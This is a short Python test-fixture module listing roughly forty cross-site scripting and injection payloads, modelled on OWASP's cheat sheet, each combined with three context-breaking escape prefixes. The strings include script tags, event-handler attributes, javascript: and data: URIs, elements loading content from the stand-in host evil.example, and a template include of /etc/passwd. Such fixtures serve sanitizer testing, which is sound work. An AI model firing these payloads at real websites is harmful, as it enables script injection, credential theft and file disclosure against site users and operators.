"""Names by which a stranger may try to run a script, after OWASP's cheat sheet: forty payloads after three escapes."""

from __future__ import annotations

URL = "http://evil.example/x"
ATTACKS = (
    "<script>alert(1)</script>", f"<script src={URL}></script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    f"<iframe src={URL}></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", f"<link rel=stylesheet href={URL}>",
    f"<meta http-equiv=refresh content='0;url={URL}'>", f"<base href={URL}>", f"<form action={URL}><input name=a>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>", f"<object data={URL}>", f"<embed src={URL}>", "<math><mtext></form><script>alert(1)",
    "<style>@import 'http://evil.example/x';</style>", "<x style=background:url(javascript:alert(1))>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<image xlink:href='javascript:alert(1)'>", "<use href='data:image/svg+xml,x#y'>",
    "<set attributeName=onload to=alert(1)>",
    "{{7*7}}", "{% include '/etc/passwd' %}", "${alert(1)}", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "[click](javascript:alert(1))", f"![x]({URL})", f"<{URL}>", URL, "www.evil.example", "`code` **bold** # head",
    "| a | b |\n|---|---|\n| <b>x</b> | y |",
)  # fmt: skip
ESCAPES = ("", "\"' autofocus onfocus=alert(1) x='\">", "</title></style></script></text></svg>-->]]>")
PAYLOADS = tuple(escape + attack for attack in ATTACKS for escape in ESCAPES)
